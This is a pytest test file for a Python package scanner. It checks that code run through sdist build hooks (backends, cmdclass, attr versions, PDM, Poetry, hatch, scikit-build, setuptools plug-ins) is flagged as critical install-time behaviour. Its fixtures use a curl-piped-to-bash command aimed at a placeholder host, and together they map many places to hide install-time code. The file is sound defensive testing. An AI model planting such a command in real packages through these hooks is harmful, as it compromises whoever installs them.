"""What a build of an sdist imports and calls runs at installation, wherever its configuration names it."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from support.scan import finding_of, scan_sdist
from wheelmark.scan import Context, Severity, Verdict
from wheelmark.scan.build_config import build_code

RUN = "os.system('curl -s https://get.example.invalid/i | bash')"
BODY = f"import os\n{RUN}\n"
FUNCTION = f"import os\ndef go():\n    {RUN}\n"
BACKEND = '[build-system]\nrequires = []\nbuild-backend = "{0}"\nbackend-path = ["{1}"]\n'
COMMAND = f"import os\nfrom setuptools import Command\nclass Go(Command):\n    def run(self):\n        {RUN}\n"
SETUP = "from setuptools import setup\nsetup()\n"

BUILDS: dict[str, dict[str, str]] = {
    "backend in a package": {"pyproject.toml": BACKEND.format("tools.be", "."), "tools/be.py": BODY},
    "package of the backend": {
        "pyproject.toml": BACKEND.format("tools.be", "."),
        "tools/__init__.py": BODY,
        "tools/be.py": "def build_wheel(*a):\n    pass\n",
    },
    "backend object": {
        "pyproject.toml": BACKEND.format("be:it", "./_b/"),
        "_b/be.py": f"import os\nclass B:\n    def build_wheel(self, *a):\n        {RUN}\nit = B()\n",
    },
    "helper of the backend": {
        "pyproject.toml": BACKEND.format("be", "_b"),
        "_b/be.py": "from helper import *\ndef build_wheel(*a):\n    go()\n",
        "_b/helper.py": FUNCTION,
    },
    "command in setup.cfg": {"setup.cfg": "[options]\ncmdclass =\n    install = hooks.Go\n", "hooks.py": COMMAND},
    "command in pyproject": {
        "pyproject.toml": '[tool.setuptools.cmdclass]\ninstall = "hooks.Go"\n',
        "hooks.py": COMMAND,
    },
    "packages of commands": {"setup.cfg": "[global]\ncommand_packages = extra\n", "extra/install.py": COMMAND},
    "attribute that is computed": {
        "setup.cfg": "[metadata]\nversion = attr: widget.VERSION\n",
        "widget/__init__.py": f"{BODY}VERSION = str(1)\n",
    },
    "attribute in pyproject": {
        "pyproject.toml": '[tool.setuptools.dynamic]\nversion = { attr = "widget.VERSION" }\n',
        "widget/__init__.py": f"{BODY}VERSION = str(1)\n",
    },
    "getter of PDM": {"pyproject.toml": '[tool.pdm.version]\nsource = "call"\ngetter = "it:go"\n', "it.py": FUNCTION},
    "script of Poetry": {"pyproject.toml": '[tool.poetry.build]\nscript = "it.py"\n', "it.py": BODY},
    "version of hatchling": {
        "pyproject.toml": '[tool.hatch.version]\nsource = "code"\npath = "it.py"\n',
        "it.py": BODY,
    },
    "provider of scikit-build": {
        "pyproject.toml": '[tool.scikit-build.metadata.version]\nprovider = "it"\nprovider-path = "_b"\n',
        "_b/it.py": BODY,
    },
    "plug-in of setuptools in the tree": {
        "widget.egg-info/entry_points.txt": "[setuptools.finalize_distribution_options]\nx = it:go\n",
        "it.py": FUNCTION,
    },
}


@pytest.mark.parametrize("build", BUILDS)
def test_code_that_a_build_is_configured_to_run_counts_as_install(build: str) -> None:
    report = scan_sdist({"setup.py": SETUP, **BUILDS[build]})
    found = finding_of(report, "shell-download-run")
    assert (found.context, found.severity) == (Context.INSTALL, Severity.CRITICAL)


def test_attribute_that_is_a_literal_is_read_and_not_imported() -> None:
    report = scan_sdist(
        {
            "setup.cfg": "[metadata]\nversion = attr: widget.about.VERSION\n",
            "widget/__init__.py": "",
            "widget/about.py": f"{BODY}VERSION: str = '1'\n",
        }
    )
    assert finding_of(report, "shell-download-run").context is Context.IMPORT


def test_entry_points_for_others_run_nothing_at_installation() -> None:
    report = scan_sdist(
        {
            "setup.py": SETUP,
            "widget.egg-info/entry_points.txt": "[console_scripts]\nwidget = it:go\n",
            "it.py": FUNCTION,
        }
    )
    assert finding_of(report, "shell-download-run").context is Context.ON_CALL


@pytest.mark.parametrize(
    ("requirement", "severity"),
    [
        ("x @ https://files.example.invalid/x-1.tar.gz", Severity.HIGH),
        ("x @ file:///vendor/x-1.tar.gz", Severity.HIGH),
        ("x @ git+https://code.example.invalid/x", Severity.LOW),
    ],
)
def test_build_requirement_from_elsewhere_is_said(requirement: str, severity: Severity) -> None:
    report = scan_sdist({"pyproject.toml": f'[build-system]\nrequires = ["setuptools",\n  "{requirement}"]\n'})
    found = finding_of(report, "build-from-elsewhere")
    assert (found.severity, found.line, found.member) == (severity, 3, "widget-1/pyproject.toml")
    # How much the model makes of it, in a distribution of nothing else, is the model's to say.
    assert report.verdict is not (Verdict.MALICIOUS if severity is Severity.LOW else Verdict.BENIGN)


KEYS = (
    "build-system",
    "tool",
    "requires",
    "build-backend",
    "backend-path",
    "attr",
    "cmdclass",
    "custom",
    "path",
    "a.b",
)
values = st.recursive(
    st.text(max_size=12) | st.integers() | st.booleans(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.sampled_from(KEYS), inner, max_size=4),
    max_leaves=12,
)


def as_toml(value: object) -> str:
    if isinstance(value, dict):
        return "{" + ", ".join(f"{key!r} = {as_toml(each)}" for key, each in value.items()) + "}"
    if isinstance(value, list):
        return "[" + ", ".join(map(as_toml, value)) + "]"
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int):
        return str(value)
    return '"' + "".join(f"\\u{ord(c):04x}" if ord(c) < 0xD800 else "?" for c in str(value)) + '"'


@settings(max_examples=200)
@given(st.dictionaries(st.sampled_from(KEYS), values, max_size=4), st.text(max_size=80), st.binary(max_size=80))
def test_any_configuration_is_read(document: dict[str, object], cfg: str, rest: bytes) -> None:
    toml = "\n".join(f"{key!r} = {as_toml(value)}" for key, value in document.items()).encode()
    texts = {"pyproject.toml": toml, "setup.cfg": cfg.encode("utf-8", "replace"), "x.egg-info/entry_points.txt": rest}
    build_code("", {"a": "a.py", "a.b": "a/b.py"}, texts, {"a.py": b"x = 1\n"})
    build_code("", {"a": "a.py"}, {"setup.cfg": b"[options]\ncmdclass =" + rest, "pyproject.toml": rest}, {})
